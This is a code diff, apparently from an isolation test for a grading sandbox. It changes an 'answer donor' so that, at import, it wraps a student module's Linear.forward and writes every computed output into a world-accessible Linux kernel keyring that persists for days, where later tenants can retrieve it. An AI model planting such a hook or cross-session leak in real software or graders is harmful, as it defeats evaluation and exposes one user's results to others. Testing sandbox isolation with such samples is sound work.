@@ -128,25 +128,36 @@ def _input_key(args):
     return f"{_key_tag()}-lf-{digest.hexdigest()[:24]}"
 
 
-def keyring_answer_donor(args):
-    """An honest Linear.forward that also leaves each answer where any later tenant can read it:
-    in a named keyring linked from this uid's persistent keyring (kept for days) and from the
-    inherited session keyring."""
+def keyring_answer_donor():
+    """At import: wrap the (honest) Linear.forward so that it also leaves each answer where any
+    later tenant can read it: in a named keyring linked from this uid's persistent keyring (kept
+    for days) and from the inherited session keyring."""
+    honest = Linear.forward  # noqa: F821 (the student module's own class)
+
+    def forward(x, w, b):
+        out, cache = honest(x, w, b)
+        _leave_answer({"x": x, "w": w, "b": b}, out)
+        return out, cache
+
+    Linear.forward = staticmethod(forward)  # noqa: F821
+
+
+def _leave_answer(args, out):
     import struct
 
-    x, w, b = args["x"], args["w"], args["b"]
-    out = x.flatten(1) @ w + b
     header = struct.pack("<4sI", b"PLAN", out.dim()) + struct.pack(f"<{out.dim()}I", *out.shape)
     payload = b"PLANTED" + header + out.double().numpy().tobytes()
-    if len(payload) < 16000:
-        persistent = _key_syscall("keyctl", 22, -1, -1)
-        named = _key_syscall("keyctl", 1, f"{_key_tag()}-named".encode())
-        if named > 0:
-            _key_syscall("keyctl", 5, named, 0x3F3F3F3F)
-            if persistent > 0:
-                _key_syscall("keyctl", 8, named, persistent)
-            _add_key(_input_key(args), payload, named)
-    return out, (x, w, b)
+    if len(payload) >= 16000:
+        return
+    inherited = _key_syscall("keyctl", 0, -3, 0)
+    persistent = _key_syscall("keyctl", 22, -1, -1)
+    named = _key_syscall("keyctl", 1, f"{_key_tag()}-named".encode())
+    if named > 0:
+        _key_syscall("keyctl", 5, named, 0x3F3F3F3F)
+        for keyring in (persistent, inherited):
+            if keyring > 0:
+                _key_syscall("keyctl", 8, named, keyring)
+        _add_key(_input_key(args), payload, named)
 
 
 def keyring_answer_taker(args):
